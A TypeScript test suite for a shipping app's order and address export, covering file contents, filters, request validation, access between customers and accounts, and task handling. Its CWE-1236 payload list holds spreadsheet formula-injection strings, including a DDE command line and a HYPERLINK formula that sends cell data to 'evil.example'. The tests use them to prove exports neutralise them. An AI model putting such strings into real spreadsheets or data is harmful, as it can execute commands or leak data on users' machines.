/** Exports from the request to the opened file. */
import { randomUUID } from 'node:crypto'
import { readdirSync } from 'node:fs'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { code } from '#contract/codes.ts'
import { heal } from '#engine/export/logic/csv-cell.ts'
import { textsOfRows } from '#engine/export/logic/export-texts.ts'
import { PROVIDER_ZONE } from '#domain/time-zone.ts'
import { address } from '#modules/address/contract.ts'
import { columns } from '#modules/b2c/columns.ts'
import { b2c } from '#modules/b2c/contract.ts'
import { tasks } from '#modules/tasks/contract.ts'
import { speakerOf } from '#server/exports/speaker.ts'
import { makeAccount } from '../../../../tests/fixtures/factories.ts'
import { startGateway, type TestGateway } from '../../../../tests/fixtures/gateway.ts'
import { key, place } from '../../../../tests/fixtures/orders.ts'
import type { SignedClient } from '../../../../tests/fixtures/signed-client.ts'
import {
  addressRequest,
  ask,
  download,
  ended,
  exported,
  orderRequest,
  type ExportRequest,
} from '../../../../tests/fixtures/tasks.ts'
import { readWorkbook, textsOf } from '../../../../tests/fixtures/xlsx.ts'

let gateway: TestGateway
let demo: SignedClient
beforeAll(async () => {
  gateway = await startGateway({ seed: true })
  demo = await gateway.client('demo')
})
afterAll(() => gateway.stop())

/** Every order there is, as the list answers it. */
async function allOrders(client: SignedClient, query: object = {}) {
  const rows = []
  for (let page = 1; ; page++) {
    const { data } = await client.call(b2c.queryOrderList, { page, pageSize: 1000, ...query })
    rows.push(...(data?.list ?? []))
    if ((data?.list.length ?? 0) < 1000) return rows
  }
}
const exportable = columns.filter(({ isNotExported }) => !isNotExported)
const everyColumn = exportable.map(({ prop }) => ({ fieldName: prop as string, header: `Head ${prop}` }))

describe('what is in the file', () => {
  test.each([
    ['en', undefined, PROVIDER_ZONE, 'UTC+8'],
    ['zh', 'America/New_York', 'America/New_York', 'America/New_York'],
  ] as const)(
    'all orders, all columns, exactly as the table says them: %s, zone %s',
    async (language, asked, zone, shown) => {
      const client = await gateway.client('demo')
      await gateway.connection.pool.query(
        `insert into b2c_order select r.* from generate_series(1, 2000) i,
         lateral jsonb_populate_record(null::b2c_order, (select to_jsonb(o) from b2c_order o where cus_code = 'DEMO' limit 1)
           || jsonb_build_object('id', gen_random_uuid(), 'order_no', 'T' || $1 || i, 'waybill_no', 'T' || $1 || i)) r`,
        [language],
      )
      const book = readWorkbook(
        await exported(
          gateway,
          client,
          orderRequest({ columns: everyColumn, ...(asked ? { zone: asked } : {}) }),
          {
            language,
          },
        ),
      )
      const rows = await allOrders(client)
      const texts = textsOfRows(exportable as never, speakerOf(language), zone)
      expect(rows.length).toBeGreaterThanOrEqual(5000)
      const [sheet] = book.sheets
      expect(textsOf(sheet as never)).toEqual([
        everyColumn.map(({ fieldName, header }) =>
          fieldName === 'createdAt' ? `${header} (${shown})` : header,
        ),
        ...rows.map((row) => texts(row as never)),
      ])
      expect(sheet?.name).toBe(language === 'zh' ? '订单' : 'Orders')
      expect(sheet?.isHeadFrozen).toBe(true)
      const cellsOf = (prop: string) => {
        const at = everyColumn.findIndex(({ fieldName }) => fieldName === prop)
        return sheet?.rows.slice(1).map((cells) => cells[at]) ?? []
      }
      expect(new Set(cellsOf('status').map((cell) => cell?.text))).toContain(
        language === 'zh' ? '已取消' : 'Cancelled',
      )
      for (const cell of cellsOf('createdAt')) expect(cell?.text).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d$/)
      expect(new Set(cellsOf('itemValue').map((cell) => cell?.kind))).toEqual(new Set(['number']))
      expect(new Set(cellsOf('receiver.phone').map((cell) => cell?.kind))).toEqual(new Set(['text']))
      expect(book.formulas).toBe(0)
    },
  )

  test('puts goods on a second sheet that names their order', async () => {
    const client = await gateway.client()
    const order = await place(client)
    const request = orderRequest({
      columns2: [
        { fieldName: 'name', header: 'Goods' },
        { fieldName: 'quantity', header: 'Pieces' },
      ],
      dataId2: 'b2cOrderGoods',
      linkKeys: ['orderNo'],
      columnType: '1',
    })
    const { sheets } = readWorkbook(await exported(gateway, client, request))
    const lines = order.order.goods.map(({ name, quantity }) => [
      order.orderNo,
      order.waybillNo,
      name,
      String(quantity),
    ])
    expect(textsOf(sheets[1] as never).slice(1)).toEqual(lines)
    expect(sheets[1]?.rows[1]?.[3]?.kind).toBe('number')
    const csv = (await exported(gateway, client, { ...request, format: 'csv' })).toString()
    expect(csv.split('\r\n')).toHaveLength(lines.length + 2)
  })

  test('the filters of the list hold, chosen rows alone where rows were chosen', async () => {
    const filter = { country: 'VN', sort: { prop: 'orderNo', order: 'asc' } }
    const expected = (await allOrders(demo, filter)).map(({ orderNo }) => orderNo)
    const read = async (param: object) => {
      const { sheets } = readWorkbook(await exported(gateway, demo, orderRequest({ param })))
      return textsOf(sheets[0] as never)
        .slice(1)
        .map(([orderNo]) => orderNo)
    }
    expect(await read({ page: 3, pageSize: 20, ...filter })).toEqual(expected)
    const some = (await allOrders(demo, filter)).slice(5, 9)
    expect(await read({ ids: some.map(({ id }) => id), ...filter })).toEqual(
      some.map(({ orderNo }) => orderNo),
    )
    expect(await read({ keyword: 'nobody is called that' })).toEqual([])
  })

  test('T25 ids of another customer bring nothing, also among one’s own', async () => {
    const [mine, theirs] = [await gateway.client(), await gateway.client()]
    const own = await place(mine)
    const foreign = await place(theirs)
    const request = orderRequest({ param: { ids: [own.id, foreign.id, 'no id'] } })
    const { sheets } = readWorkbook(await exported(gateway, mine, request))
    expect(
      textsOf(sheets[0] as never)
        .slice(1)
        .map(([orderNo]) => orderNo),
    ).toEqual([own.orderNo])
  })
})

/** What CWE-1236 lists, with what our people really have. */
const payloads = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+84912345678',
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  "'=1+1",
  '＝1+1',
  'a,"b"\n=c',
  '<c t="str"><f>1+1</f></c>',
  '_x003D_1+1',
  '00123',
  '1.2E+11',
  'Nguyễn 🚢 & <Sons>',
]

describe('T24 texts that would be formulas', () => {
  let client: SignedClient
  beforeAll(async () => {
    client = await gateway.client()
    const cusCode = client.session?.cusCode ?? ''
    await gateway.db
      .insertInto('address')
      .values(
        payloads.map((text, index) => ({
          cus_code: cusCode,
          side: 'receiver' as const,
          address_type: '0' as const,
          name: text,
          phone: `+8491234${index}`,
          country: 'VN',
          address: text,
          created_at: new Date(Date.UTC(2026, 0, 1) - index * 1000),
        })),
      )
      .execute()
  })

  test('xlsx: texts are texts, marked as typed, and nothing is computed', async () => {
    const book = readWorkbook(await exported(gateway, client, addressRequest()))
    expect(book.formulas).toBe(0)
    const rows = book.sheets[0]?.rows.slice(1) ?? []
    expect(rows.map(([name]) => name?.text)).toEqual(payloads)
    expect(rows.flat().every((cell) => cell?.kind === 'text')).toBe(true)
    const prefixed = /<xf [^>]*quotePrefix="1"/
    const styles = [...book.styles.matchAll(/<cellXfs.*<\/cellXfs>/gs)][0]?.[0].match(/<xf [^>]*>/g) ?? []
    for (const cell of rows.flat())
      expect(prefixed.test(styles[cell?.style ?? 0] ?? ''), cell?.text).toBe(
        /^'*[=+\-@＝]/.test(cell?.text ?? ''),
      )
  })

  test('csv: every cell is harmless and comes back as it was', async () => {
    const file = await exported(gateway, client, addressRequest({ format: 'csv' }))
    expect([...file.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const cells = readCsv(file.toString().slice(1))
    for (const cell of cells.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
    expect(cells.slice(1).map(([name]) => heal(name ?? ''))).toEqual(payloads)
    expect(cells.slice(1).map(([, phone]) => heal(phone ?? ''))).toEqual(
      payloads.map((_, n) => `+8491234${n}`),
    )
  })
})

function readCsv(text: string): string[][] {
  const rows: string[][] = [[]]
  for (const [, quoted, plain = '', end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^,\r\n]*))(,|\r\n|$)/g)) {
    rows.at(-1)?.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'))
    if (end === '') return rows.filter((row) => row.length > 1)
    if (end === '\r\n') rows.push([])
  }
  return rows
}

describe('what is refused', () => {
  const refusals: [string, Partial<ExportRequest>, string][] = [
    ['no such column', { columns: [{ fieldName: 'cus_code', header: '' }] }, 'columns.0.fieldName'],
    ['a prototype key', { columns: [{ fieldName: '__proto__', header: '' }] }, 'columns.0.fieldName'],
    [
      'a column twice',
      { columns: [...orderRequest().columns, { fieldName: 'orderNo', header: '' }] },
      'columns.3.fieldName',
    ],
    ['without what must be there', { columns: [{ fieldName: 'status', header: '' }] }, 'columns'],
    ['another detail', { dataId2: 'b2cOrderSecrets', columns2: [] }, 'dataId2'],
    ['no such detail column', { columns2: [{ fieldName: 'price', header: '' }] }, 'columns2.0.fieldName'],
    ['another link', { linkKeys: ['id'] }, 'linkKeys.0'],
    ['filters that are none', { param: 'all' }, 'param'],
    ['an unknown filter', { param: { cusCode: 'OTHER' } }, 'param.cusCode'],
    ['a filter of another kind', { param: { country: 5 } }, 'param.country'],
    ['a day there is not', { param: { createdFrom: '2026-02-31' } }, 'param.createdFrom'],
    ['a sort there is not', { param: { sort: { prop: 'rev', order: 'asc' } } }, 'param.sort.prop'],
    ['a time zone there is not', { zone: 'Asia/Atlantis' }, 'zone'],
    ['too many rows', { param: { ids: Array.from({ length: 1001 }, () => 'x') } }, 'param.ids'],
    ['ids that are none', { param: { ids: [{}] } }, 'param.ids'],
  ]
  test.each(refusals)('%s', async (_, more, path) => {
    const answer = await demo.call(tasks.exportOrders, orderRequest(more), { key: key() })
    expect(answer.code).toBe(code.invalid)
    expect(JSON.stringify(answer)).toContain(`"path":"${path}"`)
  })

  test('another table, and one at another endpoint', async () => {
    const unknown = await demo.call(tasks.exportOrders, orderRequest({ dataId: 'account' }), { key: key() })
    const astray = await demo.call(tasks.exportBills, orderRequest(), { key: key() })
    expect([unknown.code, astray.code]).toEqual([code.absent, code.absent])
  })

  test.each([
    ['exportSendOrder', 'b2cOrderQuery', code.ok],
    ['customExportSendOrder', 'b2cOrderQuery', code.ok],
    ['exportOrders', 'b2cOrderQuery', code.absent],
    ['exportSendOrder', 'b2cOrder', code.absent],
  ] as const)('%s of %s: %d (spec 000 §7 "my waybills")', async (call, dataId, expected) => {
    const client = await gateway.client()
    const order = await place(client)
    const columns = [{ fieldName: 'orderNo', header: 'Order number' }]
    const request = orderRequest({ dataId, columns })
    const { data, code: answered } = await client.call(tasks[call], request, { key: key() })
    expect(answered).toBe(expected)
    if (expected !== code.ok) return
    const { downloadURI } = await ended(client, data ?? '')
    const { sheets } = readWorkbook(await download(gateway, downloadURI))
    expect(sheets[0]?.name).toBe('Waybills')
    expect(textsOf(sheets[0] as never)).toEqual([['Order number'], [order.orderNo]])
  })

  test('without the export function, the page, or the query', async () => {
    const ask = async (funcs: string[], request: ExportRequest) => {
      const client = await gateway.client({ funcs })
      const call = request.dataId === 'b2cOrder' ? tasks.exportOrders : tasks.exportAddress
      return (await client.call(call, request, { key: key() })).code
    }
    expect(await ask(['Z-503', 'Z-50301'], orderRequest())).toBe(code.forbidden)
    expect(await ask(['Z-503015'], orderRequest())).toBe(code.forbidden)
    expect(await ask(['Z-503015', 'Z-50301', 'Z-503'], orderRequest())).toBe(code.ok)
    expect(await ask(['Z-802'], addressRequest())).toBe(code.forbidden)
    expect(await ask(['Z-503015', 'Z-801'], addressRequest())).toBe(code.forbidden)
    expect(await ask(['Z-503015', 'Z-802'], addressRequest())).toBe(code.ok)
    // Any export function serves a table without one of its own; a function that queries another table is none.
    expect(await ask(['Z-604015', 'Z-802'], addressRequest())).toBe(code.ok)
    expect(await ask(['Z-513', 'Z-516', 'Z-517', 'Z-802'], addressRequest())).toBe(code.forbidden)
  })

  test('a sub-account does not get the columns of the main account', async () => {
    const facts = await makeAccount(gateway.db, { userAdmin: '0' })
    const client = await gateway.client(facts)
    const request = orderRequest({
      columns: [...orderRequest().columns, { fieldName: 'mainAccount', header: '' }],
    })
    expect((await client.call(tasks.exportOrders, request, { key: key() })).code).toBe(code.invalid)
  })
})

describe('who sees tasks and files', () => {
  test('T25 another customer: no task, no file, no address', async () => {
    const [mine, theirs] = [await gateway.client(), await gateway.client()]
    const taskId = await ask(mine, addressRequest())
    const { downloadURI } = await ended(mine, taskId)
    expect(downloadURI).toMatch(/^\/download\/[0-9a-f]{32}\?ticket=/)
    expect((await theirs.call(tasks.exportSerial, { taskId })).code).toBe(code.absent)
    expect((await theirs.call(tasks.getExportResult, { taskIds: [taskId] })).data).toEqual({ list: [] })
    expect((await theirs.call(tasks.taskCancel, { taskId }, { key: key() })).code).toBe(code.absent)
    expect((await theirs.call(tasks.taskRerun, { taskId }, { key: key() })).code).toBe(code.absent)
    expect((await theirs.call(tasks.taskList, { page: 1, pageSize: 20 })).data?.total).toBe(0)
    const bare = (downloadURI ?? '').split('?')[0]
    const as = (client: SignedClient) =>
      fetch(`${gateway.url}${bare}`, { headers: { authorization: `Bearer ${client.session?.token}` } })
    expect(await (await as(theirs)).json()).toMatchObject({ success: false })
    expect((await as(mine)).headers.get('content-disposition')).toContain('attachment')
  })

  test('a colleague’s is seen by the main account alone', async () => {
    const main = await makeAccount(gateway.db)
    const sub = () => makeAccount(gateway.db, { cusCode: main.cusCode, userAdmin: '0' })
    const [boss, one, two] = [
      await gateway.client(main),
      await gateway.client(await sub()),
      await gateway.client(await sub()),
    ]
    const taskId = await ask(one, addressRequest())
    const { downloadURI } = await ended(one, taskId)
    const totals = await Promise.all(
      [boss, one, two].map(
        async (client) => (await client.call(tasks.taskList, { page: 1, pageSize: 20 })).data?.total,
      ),
    )
    expect(totals).toEqual([1, 1, 0])
    expect((await two.call(tasks.exportSerial, { taskId })).code).toBe(code.absent)
    const statuses = await Promise.all(
      [boss, one, two].map(async (client) => {
        const headers = { authorization: `Bearer ${client.session?.token}` }
        const response = await fetch(`${gateway.url}${(downloadURI ?? '').split('?')[0]}`, { headers })
        return response.headers.get('content-disposition') !== null
      }),
    )
    expect(statuses).toEqual([true, true, false])
  })

  test('the answer is the id of the task itself (spec 000 §7)', async () => {
    const client = await gateway.client()
    const { data } = await client.call(tasks.exportAddress, addressRequest(), { key: key() })
    expect(data).toEqual(expect.any(String))
    expect((await client.call(tasks.exportSerial, { taskId: data ?? '' })).data?.taskId).toBe(data)
  })
  test('the same request twice is one task', async () => {
    const client = await gateway.client()
    const options = { key: randomUUID() }
    const first = await ask(client, addressRequest(), options)
    expect(await ask(client, addressRequest(), options)).toBe(first)
    await ended(client, first)
    const { data } = await client.call(tasks.taskList, { page: 1, pageSize: 20, kind: 'export' })
    expect(data?.list).toMatchObject([
      { taskId: first, state: 'done', progress: 100, dataId: 'address.receiver' },
    ])
  })
})

test('a right that is taken away while the task waits: it fails and says why; given back, it runs again', async () => {
  const facts = await makeAccount(gateway.db, { funcs: ['Z-503015', 'Z-802'] })
  const client = await gateway.client(facts)
  const taskId = await ask(client, addressRequest())
  await ended(client, taskId)
  await gateway.db
    .deleteFrom('account_func')
    .where('account_id', '=', facts.id)
    .where('func_id', '=', 'Z-802')
    .execute()
  await gateway.db
    .updateTable('file')
    .set({ expires_at: new Date(0) })
    .where('user_id', '=', facts.id)
    .execute()
  expect((await ended(client, taskId)).downloadURI).toBeNull()
  await client.call(tasks.taskRerun, { taskId }, { key: key() })
  const failed = await ended(client, taskId)
  expect(failed).toMatchObject({
    state: 'failed',
    downloadURI: null,
    error: expect.stringContaining('was removed'),
  })
  await gateway.db.insertInto('account_func').values({ account_id: facts.id, func_id: 'Z-802' }).execute()
  expect((await client.call(tasks.taskRerun, { taskId }, { key: key() })).data).toEqual({ taskId })
  const again = await ended(client, taskId)
  expect(again.state).toBe('done')
  expect((await download(gateway, again.downloadURI)).length).toBeGreaterThan(500)
  expect((await client.call(tasks.taskRerun, { taskId }, { key: key() })).code).toBe(code.status)
  expect((await client.call(tasks.taskCancel, { taskId }, { key: key() })).code).toBe(code.status)
})

test('nothing is left where files are written', async () => {
  expect(readdirSync(gateway.gateway.kernel.services.files.partsFolder)).toEqual([])
})

test('the demo shows tasks of every kind and state', async () => {
  const { data } = await demo.call(tasks.taskList, { page: 1, pageSize: 100 })
  const seen = new Set(data?.list.map(({ kind, state }) => `${kind} ${state}`))
  for (const each of ['export done', 'export failed', 'export cancelled', 'import done', 'import cancelled'])
    expect(seen).toContain(each)
  const found = await demo.call(tasks.taskList, {
    page: 1,
    pageSize: 100,
    kind: 'import',
    state: 'done',
    keyword: '双十一',
  })
  expect(found.data?.list).toHaveLength(1)
  const taskId = found.data?.list[0]?.taskId ?? ''
  const results = await demo.call(tasks.importResults, { taskId, after: 5 })
  expect(results.data).toMatchObject({ state: 'done', total: 40, done: 40 })
  expect(results.data?.list[1]).toMatchObject({ row: 7, ok: '0', fields: [{ path: 'receiver.phone' }] })
  expect(
    (await demo.call(address.queryList, { isSenderOrReceiver: 'sender', page: 1, pageSize: 1 })).code,
  ).toBe(code.ok)
})
